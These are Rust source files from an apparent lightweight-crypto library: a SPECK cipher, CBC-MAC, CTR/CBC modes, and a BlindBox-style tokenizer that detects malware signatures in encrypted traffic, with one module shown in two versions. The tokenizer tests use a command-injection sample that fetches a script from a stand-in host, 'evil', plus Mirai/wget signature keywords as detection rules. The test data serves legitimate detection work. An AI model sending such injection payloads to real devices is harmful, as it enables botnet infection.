            round(&mut x, &mut y, rk);
        }
        block[0..8].copy_from_slice(&x.to_be_bytes());
        block[8..16].copy_from_slice(&y.to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut x = u64::from_be_bytes(block[0..8].try_into().expect("8 bytes"));
        let mut y = u64::from_be_bytes(block[8..16].try_into().expect("8 bytes"));
        for &rk in self.round_keys.iter().rev() {
            inv_round(&mut x, &mut y, rk);
        }
        block[0..8].copy_from_slice(&x.to_be_bytes());
        block[8..16].copy_from_slice(&y.to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "SPECK",
            key_bits: &[128],
            block_bits: 128,
            structure: Structure::Arx,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Exact,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn designers_test_vector() {
        // SPECK128/128 from the SIMON & SPECK paper:
        //   key  = 0f0e0d0c0b0a0908 0706050403020100   (l0, k0)
        //   pt   = 6c61766975716520 7469206564616d20   (x, y)
        //   ct   = a65d985179783265 7860fedf5c570d18
        let mut key = [0u8; 16];
        key[0..8].copy_from_slice(&0x0f0e_0d0c_0b0a_0908u64.to_be_bytes());
        key[8..16].copy_from_slice(&0x0706_0504_0302_0100u64.to_be_bytes());
        let speck = Speck128::new(&key).unwrap();

        let mut block = [0u8; 16];
        block[0..8].copy_from_slice(&0x6c61_7669_7571_6520u64.to_be_bytes());
        block[8..16].copy_from_slice(&0x7469_2065_6461_6d20u64.to_be_bytes());

        speck.encrypt_block(&mut block).unwrap();
        assert_eq!(
            u64::from_be_bytes(block[0..8].try_into().unwrap()),
            0xa65d_9851_7978_3265
        );
        assert_eq!(
            u64::from_be_bytes(block[8..16].try_into().unwrap()),
            0x7860_fedf_5c57_0d18
        );

        speck.decrypt_block(&mut block).unwrap();
        assert_eq!(
            u64::from_be_bytes(block[0..8].try_into().unwrap()),
            0x6c61_7669_7571_6520
        );
    }

    #[test]
    fn round_and_inverse_compose_to_identity() {
        let (mut x, mut y) = (0x0123_4567_89AB_CDEFu64, 0xFEDC_BA98_7654_3210u64);
        round(&mut x, &mut y, 0x5555_5555_5555_5555);
        inv_round(&mut x, &mut y, 0x5555_5555_5555_5555);
        assert_eq!((x, y), (0x0123_4567_89AB_CDEF, 0xFEDC_BA98_7654_3210));
    }

    #[test]
    fn properties() {
        let speck = Speck128::new(&[0x99u8; 16]).unwrap();
        proptests::roundtrip(&speck);
        proptests::avalanche(&speck);
        proptests::key_sensitivity(|k| Box::new(Speck128::new(&k[..16]).unwrap()));
    }
}
