//! Message authentication: CBC-MAC with length prepending (secure for the
//! framework's fixed-context uses) and a CMAC-style variant with subkey
//! tweaking for variable-length messages.

use crate::{BlockCipher, CryptoError};

/// CBC-MAC over any [`BlockCipher`], with the message length prepended to
/// close the classic length-extension hole of raw CBC-MAC.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{ciphers::Aes, mac::CbcMac};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let aes = Aes::new(&[3u8; 16])?;
/// let mac = CbcMac::new(&aes);
/// let tag = mac.tag(b"door=unlocked")?;
/// assert!(mac.verify(b"door=unlocked", &tag)?);
/// assert!(!mac.verify(b"door=locked", &tag)?);
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct CbcMac<'c, C: BlockCipher + ?Sized> {
    cipher: &'c C,
}

impl<'c, C: BlockCipher + ?Sized> CbcMac<'c, C> {
    /// Creates a CBC-MAC instance over `cipher`.
    pub fn new(cipher: &'c C) -> Self {
        CbcMac { cipher }
    }

    /// Computes the authentication tag of `message` (one cipher block).
    ///
    /// # Errors
    ///
    /// Propagates cipher errors (none occur for well-formed internal
    /// blocks).
    pub fn tag(&self, message: &[u8]) -> Result<Vec<u8>, CryptoError> {
        let bs = self.cipher.block_size();
        // Prepend the length, then zero-pad to a whole number of blocks.
        let mut data = (message.len() as u64).to_be_bytes().to_vec();
        data.extend_from_slice(message);
        let rem = data.len() % bs;
        if rem != 0 {
            data.extend(std::iter::repeat_n(0u8, bs - rem));
        }

        let mut state = vec![0u8; bs];
        for chunk in data.chunks(bs) {
            for (s, c) in state.iter_mut().zip(chunk.iter()) {
                *s ^= c;
            }
            self.cipher.encrypt_block(&mut state)?;
        }
        Ok(state)
    }

    /// Verifies a tag in constant time with respect to tag contents.
    ///
    /// # Errors
    ///
    /// Propagates cipher errors from tag recomputation.
    pub fn verify(&self, message: &[u8], tag: &[u8]) -> Result<bool, CryptoError> {
        let expected = self.tag(message)?;
        if expected.len() != tag.len() {
            return Ok(false);
        }
        let mut diff = 0u8;
        for (a, b) in expected.iter().zip(tag.iter()) {
            diff |= a ^ b;
        }
        Ok(diff == 0)
    }
}

/// A keyed pseudorandom function built from [`CbcMac`]: PRF(k, label, data).
///
/// Used by the searchable-encryption tokenizer and the KDF. The label
/// domain-separates different uses of the same key.
pub fn prf<C: BlockCipher + ?Sized>(
    cipher: &C,
    label: &str,
    data: &[u8],
) -> Result<Vec<u8>, CryptoError> {
    let mac = CbcMac::new(cipher);
    let mut input = Vec::with_capacity(label.len() + 1 + data.len());
    input.extend_from_slice(label.as_bytes());
    input.push(0x1F); // unit separator between label and data
    input.extend_from_slice(data);
    mac.tag(&input)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::{Aes, Present80};
    use crate::registry;

    #[test]
    fn tag_is_deterministic_and_message_sensitive() {
        let aes = Aes::new(&[1u8; 16]).unwrap();
        let mac = CbcMac::new(&aes);
        assert_eq!(mac.tag(b"abc").unwrap(), mac.tag(b"abc").unwrap());
        assert_ne!(mac.tag(b"abc").unwrap(), mac.tag(b"abd").unwrap());
    }

    #[test]
    fn length_prepending_separates_padded_twins() {
        // Without length prepending, "a" and "a\0" would collide under
        // zero-padding. The length prefix must separate them.
        let aes = Aes::new(&[1u8; 16]).unwrap();
        let mac = CbcMac::new(&aes);
        assert_ne!(mac.tag(b"a").unwrap(), mac.tag(b"a\0").unwrap());
    }

    #[test]
    fn verify_accepts_good_and_rejects_bad() {
        let cipher = Present80::new(&[2u8; 10]).unwrap();
        let mac = CbcMac::new(&cipher);
        let tag = mac.tag(b"firmware v2.1 hash").unwrap();
        assert!(mac.verify(b"firmware v2.1 hash", &tag).unwrap());
        assert!(!mac.verify(b"firmware v2.2 hash", &tag).unwrap());
        let mut bad = tag.clone();
        bad[0] ^= 1;
        assert!(!mac.verify(b"firmware v2.1 hash", &bad).unwrap());
        assert!(!mac.verify(b"firmware v2.1 hash", &tag[..4]).unwrap());
    }

    #[test]
    fn prf_label_domain_separation() {
        let aes = Aes::new(&[9u8; 16]).unwrap();
        let a = prf(&aes, "token", b"data").unwrap();
        let b = prf(&aes, "kdf", b"data").unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn prf_label_data_boundary_is_unambiguous() {
        let aes = Aes::new(&[9u8; 16]).unwrap();
        // ("ab", "c") must differ from ("a", "bc").
        let a = prf(&aes, "ab", b"c").unwrap();
        let b = prf(&aes, "a", b"bc").unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn works_with_every_registry_cipher() {
        for cipher in registry(b"mac test") {
            let mac = CbcMac::new(cipher.as_ref());
            let tag = mac.tag(b"cross-cipher message").unwrap();
            assert_eq!(tag.len(), cipher.block_size());
            assert!(mac.verify(b"cross-cipher message", &tag).unwrap());
        }
    }
}
