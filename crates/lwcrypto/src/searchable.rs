//! BlindBox-style tokenized searchable encryption.
//!
//! The paper's network-layer design (§IV-B2) proposes matching
//! malware-signature keywords inside encrypted traffic *without* breaking
//! end-to-end encryption, "similar to BlindBox" [Sherry et al., SIGCOMM'15].
//! This module implements the core of that scheme:
//!
//! 1. The sender encrypts the payload normally (out of scope here) and
//!    additionally emits **tokens**: a PRF under a session token key of
//!    every sliding window of the plaintext.
//! 2. The middlebox holds rule tokens — the same PRF applied to each rule
//!    keyword (computed by the rule authority with the token key) — and
//!    matches them against traffic tokens with no access to the plaintext.
//!
//! Windows are fixed-size ([`TOKEN_WINDOW`]) so token streams leak only
//! payload length, not content (up to PRF security).

use crate::ciphers::Speck128;
use crate::kdf::derive_key;
use crate::mac::prf;
use crate::CryptoError;

/// Sliding-window width in bytes for tokenization (BlindBox uses 8).
pub const TOKEN_WINDOW: usize = 8;

/// Number of PRF output bytes kept per token.
pub const TOKEN_SIZE: usize = 8;

/// An encrypted inspection token: the PRF image of one plaintext window.
pub type Token = [u8; TOKEN_SIZE];

/// Per-session tokenizer shared (via the XLF Core key exchange) between
/// the endpoint and the inspecting middlebox rule authority.
///
/// # Example
///
/// ```
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// use xlf_lwcrypto::searchable::Tokenizer;
///
/// let sender = Tokenizer::new(b"session secret")?;
/// let middlebox = Tokenizer::new(b"session secret")?;
///
/// let traffic = sender.tokenize(b"GET /bot.sh HTTP/1.1");
/// let rule = middlebox.rule_token(b"/bot.sh ");
/// assert!(traffic.contains(&rule));
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct Tokenizer {
    cipher: Speck128,
}

impl Tokenizer {
    /// Derives the token key from a session secret and builds the
    /// tokenizer.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidParameter`] if the secret is empty.
    pub fn new(session_secret: &[u8]) -> Result<Self, CryptoError> {
        let key = derive_key(session_secret, "xlf-searchable-token", 16)?;
        Ok(Tokenizer {
            cipher: Speck128::new(&key).expect("16-byte derived key"),
        })
    }

    fn window_token(&self, window: &[u8]) -> Token {
        let out = prf(&self.cipher, "blindbox-token", window).expect("PRF over small input");
        let mut token = [0u8; TOKEN_SIZE];
        token.copy_from_slice(&out[..TOKEN_SIZE]);
        token
    }

    /// Produces the token stream for an outgoing payload: one token per
    /// sliding window (stride 1). Payloads shorter than the window emit a
    /// single zero-padded token.
    pub fn tokenize(&self, payload: &[u8]) -> Vec<Token> {
        if payload.len() < TOKEN_WINDOW {
            let mut padded = payload.to_vec();
            padded.resize(TOKEN_WINDOW, 0);
            return vec![self.window_token(&padded)];
        }
        payload
            .windows(TOKEN_WINDOW)
            .map(|w| self.window_token(w))
            .collect()
    }

    /// Produces the token for a rule keyword. Keywords shorter than the
    /// window are zero-padded (and will then only match padded short
    /// payloads); longer keywords use their first window — callers should
    /// split long keywords into windows via [`Tokenizer::rule_tokens`].
    pub fn rule_token(&self, keyword: &[u8]) -> Token {
        let mut w = keyword.to_vec();
        w.resize(TOKEN_WINDOW.max(w.len()), 0);
        self.window_token(&w[..TOKEN_WINDOW])
    }

    /// Splits a long keyword into consecutive window tokens (stride 1), so
    /// a match requires the full keyword to appear contiguously.
    pub fn rule_tokens(&self, keyword: &[u8]) -> Vec<Token> {
        self.tokenize(keyword)
    }
}

/// Matches rule tokens against a traffic token stream: returns the indices
/// where the full rule-token sequence occurs contiguously.
pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
    if rule.is_empty() || rule.len() > traffic.len() {
        return Vec::new();
    }
    traffic
        .windows(rule.len())
        .enumerate()
        .filter(|(_, w)| *w == rule)
        .map(|(i, _)| i)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matching_without_plaintext() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(!match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn clean_traffic_does_not_match() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"GET /weather/today?zip=44106 HTTP/1.1");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn different_sessions_produce_unlinkable_tokens() {
        let a = Tokenizer::new(b"session A").unwrap();
        let b = Tokenizer::new(b"session B").unwrap();
        assert_ne!(a.tokenize(b"identical"), b.tokenize(b"identical"));
    }

    #[test]
    fn match_positions_are_correct() {
        let t = Tokenizer::new(b"k").unwrap();
        let payload = b"xxxxNEEDLE01yyyyNEEDLE01";
        let traffic = t.tokenize(payload);
        let rule = t.rule_tokens(b"NEEDLE01");
        assert_eq!(match_rule(&traffic, &rule), vec![4, 16]);
    }

    #[test]
    fn short_payload_and_keyword_roundtrip() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"hi");
        let rule = t.rule_token(b"hi");
        assert_eq!(traffic, vec![rule]);
    }

    #[test]
    fn empty_rule_never_matches() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"whatever payload");
        assert!(match_rule(&traffic, &[]).is_empty());
    }

    #[test]
    fn tokens_do_not_reveal_plaintext_bytes() {
        let t = Tokenizer::new(b"k").unwrap();
        let tokens = t.tokenize(b"AAAAAAAAAAAAAAAA");
        // All windows identical → all tokens identical (expected leak), but
        // the token bytes must not equal the plaintext bytes.
        for token in &tokens {
            assert_ne!(&token[..], b"AAAAAAAA");
        }
    }
}
