//! BlindBox-style tokenized searchable encryption.
//!
//! The paper's network-layer design (§IV-B2) proposes matching
//! malware-signature keywords inside encrypted traffic *without* breaking
//! end-to-end encryption, "similar to BlindBox" [Sherry et al., SIGCOMM'15].
//! This module implements the core of that scheme:
//!
//! 1. The sender encrypts the payload normally (out of scope here) and
//!    additionally emits **tokens**: a PRF under a session token key of
//!    every sliding window of the plaintext.
//! 2. The middlebox holds rule tokens — the same PRF applied to each rule
//!    keyword (computed by the rule authority with the token key) — and
//!    matches them against traffic tokens with no access to the plaintext.
//!
//! Windows are fixed-size ([`TOKEN_WINDOW`]) so token streams leak only
//! payload length, not content (up to PRF security).

use crate::ciphers::Speck128;
use crate::kdf::derive_key;
use crate::mac::prf;
use crate::CryptoError;

/// Sliding-window width in bytes for tokenization (BlindBox uses 8).
pub const TOKEN_WINDOW: usize = 8;

/// Number of PRF output bytes kept per token.
pub const TOKEN_SIZE: usize = 8;

/// An encrypted inspection token: the PRF image of one plaintext window.
pub type Token = [u8; TOKEN_SIZE];

/// Per-session tokenizer shared (via the XLF Core key exchange) between
/// the endpoint and the inspecting middlebox rule authority.
///
/// # Example
///
/// ```
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// use xlf_lwcrypto::searchable::Tokenizer;
///
/// let sender = Tokenizer::new(b"session secret")?;
/// let middlebox = Tokenizer::new(b"session secret")?;
///
/// let traffic = sender.tokenize(b"GET /bot.sh HTTP/1.1");
/// let rule = middlebox.rule_token(b"/bot.sh ");
/// assert!(traffic.contains(&rule));
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct Tokenizer {
    cipher: Speck128,
}

impl Tokenizer {
    /// Derives the token key from a session secret and builds the
    /// tokenizer.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidParameter`] if the secret is empty.
    pub fn new(session_secret: &[u8]) -> Result<Self, CryptoError> {
        let key = derive_key(session_secret, "xlf-searchable-token", 16)?;
        Ok(Tokenizer {
            cipher: Speck128::new(&key).expect("16-byte derived key"),
        })
    }

    fn window_token(&self, window: &[u8]) -> Token {
        let out = prf(&self.cipher, "blindbox-token", window).expect("PRF over small input");
        let mut token = [0u8; TOKEN_SIZE];
        token.copy_from_slice(&out[..TOKEN_SIZE]);
        token
    }

    /// Produces the token stream for an outgoing payload: one token per
    /// sliding window (stride 1). Payloads shorter than the window emit a
    /// single zero-padded token.
    pub fn tokenize(&self, payload: &[u8]) -> Vec<Token> {
        if payload.len() < TOKEN_WINDOW {
            let mut padded = payload.to_vec();
            padded.resize(TOKEN_WINDOW, 0);
            return vec![self.window_token(&padded)];
        }
        payload
            .windows(TOKEN_WINDOW)
            .map(|w| self.window_token(w))
            .collect()
    }

    /// Produces the token for a rule keyword. Keywords shorter than the
    /// window are zero-padded (and will then only match padded short
    /// payloads); longer keywords use their first window — callers should
    /// split long keywords into windows via [`Tokenizer::rule_tokens`].
    pub fn rule_token(&self, keyword: &[u8]) -> Token {
        let mut w = keyword.to_vec();
        w.resize(TOKEN_WINDOW.max(w.len()), 0);
        self.window_token(&w[..TOKEN_WINDOW])
    }

    /// Splits a long keyword into consecutive window tokens (stride 1), so
    /// a match requires the full keyword to appear contiguously.
    pub fn rule_tokens(&self, keyword: &[u8]) -> Vec<Token> {
        self.tokenize(keyword)
    }
}

/// Matches rule tokens against a traffic token stream: returns the indices
/// where the full rule-token sequence occurs contiguously.
///
/// This is the naive reference path — O(|rule| × |traffic|) per rule, so
/// O(rules × traffic) for a rule set. Production inspection goes through
/// [`TokenIndex`], which amortizes the whole rule set into one pass;
/// this scan is kept for A/B measurement and as the equivalence oracle
/// in property tests.
pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
    if rule.is_empty() || rule.len() > traffic.len() {
        return Vec::new();
    }
    traffic
        .windows(rule.len())
        .enumerate()
        .filter(|(_, w)| *w == rule)
        .map(|(i, _)| i)
        .collect()
}

/// Tokens are already PRF images — uniformly distributed 8-byte strings —
/// so the index hashes them by identity (their first 8 bytes *are* a
/// high-quality hash). Re-hashing through SipHash would only add cost.
#[derive(Debug, Clone, Copy, Default)]
struct TokenIdentityHasher(u64);

impl std::hash::Hasher for TokenIdentityHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, _bytes: &[u8]) {
        unreachable!("TokenIndex only hashes u64 keys");
    }
    fn write_u64(&mut self, value: u64) {
        self.0 = value;
    }
}

type TokenMap<V> =
    std::collections::HashMap<u64, V, std::hash::BuildHasherDefault<TokenIdentityHasher>>;

fn token_key(token: &Token) -> u64 {
    u64::from_le_bytes(*token)
}

/// Single-pass multi-rule matching over encrypted token streams.
///
/// Per-session rule-token sequences go into a hash index keyed by each
/// rule's **first** window token. The traffic stream is walked once; an
/// index hit at offset `i` nominates candidate rules, and a candidate
/// matches when its remaining window tokens chain at consecutive offsets
/// `i+1, i+2, …` (multi-window rules are exactly consecutive sliding
/// windows of the keyword, so the chain check is a contiguous slice
/// compare). Expected cost is O(traffic tokens + verified candidates)
/// instead of the naive O(rules × traffic tokens).
#[derive(Debug, Clone, Default)]
pub struct TokenIndex {
    /// First window token → ids of rules starting with it.
    heads: TokenMap<Vec<u32>>,
    /// Full token sequences, in the id order given to [`TokenIndex::build`].
    rules: Vec<Vec<Token>>,
}

impl TokenIndex {
    /// Builds the index from per-rule token sequences (as produced by
    /// [`Tokenizer::rule_tokens`]). Empty sequences are accepted and
    /// never match, mirroring [`match_rule`].
    pub fn build(rules: Vec<Vec<Token>>) -> Self {
        let mut heads: TokenMap<Vec<u32>> = TokenMap::default();
        for (id, rule) in rules.iter().enumerate() {
            if let Some(first) = rule.first() {
                heads.entry(token_key(first)).or_default().push(id as u32);
            }
        }
        TokenIndex { heads, rules }
    }

    /// Number of indexed rules.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    fn chains_at(&self, traffic: &[Token], rule: &[Token], offset: usize) -> bool {
        offset + rule.len() <= traffic.len() && traffic[offset..offset + rule.len()] == rule[..]
    }

    /// Finds the first match offset of each rule in one traffic pass,
    /// stopping early once every rule has matched. `out` is reset by the
    /// callee so batch callers can reuse the allocation.
    pub fn find_first_per_rule_into(&self, traffic: &[Token], out: &mut Vec<Option<usize>>) {
        out.clear();
        out.resize(self.rules.len(), None);
        let mut remaining = self.heads.values().map(Vec::len).sum::<usize>();
        if remaining == 0 {
            return;
        }
        for (offset, token) in traffic.iter().enumerate() {
            let Some(candidates) = self.heads.get(&token_key(token)) else {
                continue;
            };
            for &id in candidates {
                let slot = &mut out[id as usize];
                if slot.is_none() && self.chains_at(traffic, &self.rules[id as usize], offset) {
                    *slot = Some(offset);
                    remaining -= 1;
                    if remaining == 0 {
                        return;
                    }
                }
            }
        }
    }

    /// Allocating convenience wrapper over
    /// [`TokenIndex::find_first_per_rule_into`].
    pub fn find_first_per_rule(&self, traffic: &[Token]) -> Vec<Option<usize>> {
        let mut out = Vec::new();
        self.find_first_per_rule_into(traffic, &mut out);
        out
    }

    /// Every match offset of every rule (the full [`match_rule`]
    /// answer for the whole set), still in one traffic pass.
    pub fn find_positions(&self, traffic: &[Token]) -> Vec<Vec<usize>> {
        let mut out = vec![Vec::new(); self.rules.len()];
        for (offset, token) in traffic.iter().enumerate() {
            let Some(candidates) = self.heads.get(&token_key(token)) else {
                continue;
            };
            for &id in candidates {
                if self.chains_at(traffic, &self.rules[id as usize], offset) {
                    out[id as usize].push(offset);
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matching_without_plaintext() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(!match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn clean_traffic_does_not_match() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"GET /weather/today?zip=44106 HTTP/1.1");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn different_sessions_produce_unlinkable_tokens() {
        let a = Tokenizer::new(b"session A").unwrap();
        let b = Tokenizer::new(b"session B").unwrap();
        assert_ne!(a.tokenize(b"identical"), b.tokenize(b"identical"));
    }

    #[test]
    fn match_positions_are_correct() {
        let t = Tokenizer::new(b"k").unwrap();
        let payload = b"xxxxNEEDLE01yyyyNEEDLE01";
        let traffic = t.tokenize(payload);
        let rule = t.rule_tokens(b"NEEDLE01");
        assert_eq!(match_rule(&traffic, &rule), vec![4, 16]);
    }

    #[test]
    fn short_payload_and_keyword_roundtrip() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"hi");
        let rule = t.rule_token(b"hi");
        assert_eq!(traffic, vec![rule]);
    }

    #[test]
    fn empty_rule_never_matches() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"whatever payload");
        assert!(match_rule(&traffic, &[]).is_empty());
    }

    #[test]
    fn token_index_agrees_with_naive_scan() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let rules: Vec<Vec<Token>> = [
            &b"wget${IFS}"[..],
            b"/bin/busybox MIRAI",
            b"NEEDLE01",
            b"",
            b"absent-keyword",
        ]
        .iter()
        .map(|kw| t.rule_tokens(kw))
        .collect();
        let index = TokenIndex::build(rules.clone());
        assert_eq!(index.rule_count(), rules.len());
        for payload in [
            &b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0"[..],
            b"xxxxNEEDLE01yyyyNEEDLE01",
            b"GET /weather/today?zip=44106 HTTP/1.1",
            b"hi",
            b"",
        ] {
            let traffic = t.tokenize(payload);
            let expected_firsts: Vec<Option<usize>> = rules
                .iter()
                .map(|r| match_rule(&traffic, r).first().copied())
                .collect();
            assert_eq!(index.find_first_per_rule(&traffic), expected_firsts);
            let expected_all: Vec<Vec<usize>> =
                rules.iter().map(|r| match_rule(&traffic, r)).collect();
            assert_eq!(index.find_positions(&traffic), expected_all);
        }
    }

    #[test]
    fn token_index_handles_shared_first_window() {
        // Two rules with the same first window but different tails must
        // both resolve through the same index bucket.
        let t = Tokenizer::new(b"k").unwrap();
        let rules = vec![t.rule_tokens(b"prefix-AAAA"), t.rule_tokens(b"prefix-BBBB")];
        let index = TokenIndex::build(rules);
        let traffic = t.tokenize(b"zz prefix-BBBB zz");
        assert_eq!(index.find_first_per_rule(&traffic), vec![None, Some(3)]);
    }

    #[test]
    fn token_index_scratch_buffer_is_reset() {
        let t = Tokenizer::new(b"k").unwrap();
        let index = TokenIndex::build(vec![t.rule_tokens(b"NEEDLE01")]);
        let mut scratch = Vec::new();
        index.find_first_per_rule_into(&t.tokenize(b"..NEEDLE01.."), &mut scratch);
        assert_eq!(scratch, vec![Some(2)]);
        index.find_first_per_rule_into(&t.tokenize(b"clean payload"), &mut scratch);
        assert_eq!(scratch, vec![None]);
    }

    #[test]
    fn tokens_do_not_reveal_plaintext_bytes() {
        let t = Tokenizer::new(b"k").unwrap();
        let tokens = t.tokenize(b"AAAAAAAAAAAAAAAA");
        // All windows identical → all tokens identical (expected leak), but
        // the token bytes must not equal the plaintext bytes.
        for token in &tokens {
            assert_ne!(&token[..], b"AAAAAAAA");
        }
    }
}
