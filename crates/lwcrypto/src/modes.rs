//! Block-cipher modes of operation: CBC (with PKCS#7 padding) and CTR.
//!
//! CTR is the workhorse mode in the XLF framework (stream-like, no padding,
//! usable with the 2-byte Hummingbird-2 block just as with 16-byte AES).

use crate::{BlockCipher, CryptoError};

/// Counter (CTR) mode over any [`BlockCipher`].
///
/// Encryption and decryption are the same operation ([`Ctr::apply`]).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{ciphers::Aes, modes::Ctr};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let aes = Aes::new(&[1u8; 16])?;
/// let mut msg = b"unlock front door".to_vec();
/// Ctr::new(&aes, &[9u8; 16]).apply(&mut msg);
/// Ctr::new(&aes, &[9u8; 16]).apply(&mut msg);
/// assert_eq!(&msg[..], b"unlock front door");
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct Ctr<'c, C: BlockCipher + ?Sized> {
    cipher: &'c C,
    nonce: Vec<u8>,
}

impl<'c, C: BlockCipher + ?Sized> Ctr<'c, C> {
    /// Creates a CTR keystream generator for `cipher` with the given nonce.
    ///
    /// The nonce is truncated or zero-padded to the cipher's block size;
    /// callers should supply a nonce of exactly that size and never reuse
    /// one under the same key.
    pub fn new(cipher: &'c C, nonce: &[u8]) -> Self {
        let bs = cipher.block_size();
        let mut n = nonce.to_vec();
        n.resize(bs, 0);
        Ctr { cipher, nonce: n }
    }

    /// XORs the keystream into `data` in place (encrypts or decrypts).
    pub fn apply(&self, data: &mut [u8]) {
        let bs = self.cipher.block_size();
        for (counter, chunk) in data.chunks_mut(bs).enumerate() {
            let counter = counter as u64;
            let mut block = self.nonce.clone();
            // Mix the counter into the trailing bytes of the nonce block.
            for (i, byte) in counter.to_be_bytes().iter().rev().enumerate() {
                if i < bs {
                    let idx = bs - 1 - i;
                    block[idx] ^= byte;
                }
            }
            self.cipher
                .encrypt_block(&mut block)
                .expect("block built to cipher block size");
            for (d, k) in chunk.iter_mut().zip(block.iter()) {
                *d ^= k;
            }
        }
    }
}

/// Cipher-block-chaining mode with PKCS#7 padding.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{ciphers::Present80, modes::Cbc};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let cipher = Present80::new(&[2u8; 10])?;
/// let cbc = Cbc::new(&cipher);
/// let ct = cbc.encrypt(&[3u8; 8], b"hello from the hub")?;
/// let pt = cbc.decrypt(&[3u8; 8], &ct)?;
/// assert_eq!(&pt[..], b"hello from the hub");
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct Cbc<'c, C: BlockCipher + ?Sized> {
    cipher: &'c C,
}

impl<'c, C: BlockCipher + ?Sized> Cbc<'c, C> {
    /// Creates a CBC wrapper around `cipher`.
    pub fn new(cipher: &'c C) -> Self {
        Cbc { cipher }
    }

    /// Encrypts `plaintext`, applying PKCS#7 padding. The IV is truncated
    /// or zero-padded to the block size.
    ///
    /// # Errors
    ///
    /// Propagates cipher errors (none occur for well-formed internal
    /// blocks).
    pub fn encrypt(&self, iv: &[u8], plaintext: &[u8]) -> Result<Vec<u8>, CryptoError> {
        let bs = self.cipher.block_size();
        let mut prev = iv.to_vec();
        prev.resize(bs, 0);

        let pad = bs - (plaintext.len() % bs);
        let mut data = plaintext.to_vec();
        data.extend(std::iter::repeat_n(pad as u8, pad));

        for chunk in data.chunks_mut(bs) {
            for (c, p) in chunk.iter_mut().zip(prev.iter()) {
                *c ^= p;
            }
            self.cipher.encrypt_block(chunk)?;
            prev.copy_from_slice(chunk);
        }
        Ok(data)
    }

    /// Decrypts `ciphertext` and strips PKCS#7 padding.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidBlockLength`] if the ciphertext is not
    /// a whole number of blocks, or [`CryptoError::IntegrityFailure`] if
    /// the padding is malformed.
    pub fn decrypt(&self, iv: &[u8], ciphertext: &[u8]) -> Result<Vec<u8>, CryptoError> {
        let bs = self.cipher.block_size();
        if ciphertext.is_empty() || !ciphertext.len().is_multiple_of(bs) {
            return Err(CryptoError::InvalidBlockLength {
                block_size: bs,
                actual: ciphertext.len(),
            });
        }
        let mut prev = iv.to_vec();
        prev.resize(bs, 0);

        let mut data = ciphertext.to_vec();
        for chunk in data.chunks_mut(bs) {
            let this_ct = chunk.to_vec();
            self.cipher.decrypt_block(chunk)?;
            for (c, p) in chunk.iter_mut().zip(prev.iter()) {
                *c ^= p;
            }
            prev = this_ct;
        }

        let pad = *data.last().expect("non-empty") as usize;
        if pad == 0 || pad > bs || data.len() < pad {
            return Err(CryptoError::IntegrityFailure);
        }
        if !data[data.len() - pad..].iter().all(|&b| b == pad as u8) {
            return Err(CryptoError::IntegrityFailure);
        }
        data.truncate(data.len() - pad);
        Ok(data)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::{Aes, Hummingbird2, Present80};
    use crate::registry;

    #[test]
    fn ctr_roundtrips_for_every_registry_cipher() {
        for cipher in registry(b"modes test") {
            let mut data = b"the quick brown fox jumps over the lazy dog".to_vec();
            let nonce = vec![0x42u8; cipher.block_size()];
            Ctr::new(cipher.as_ref(), &nonce).apply(&mut data);
            assert_ne!(
                &data[..],
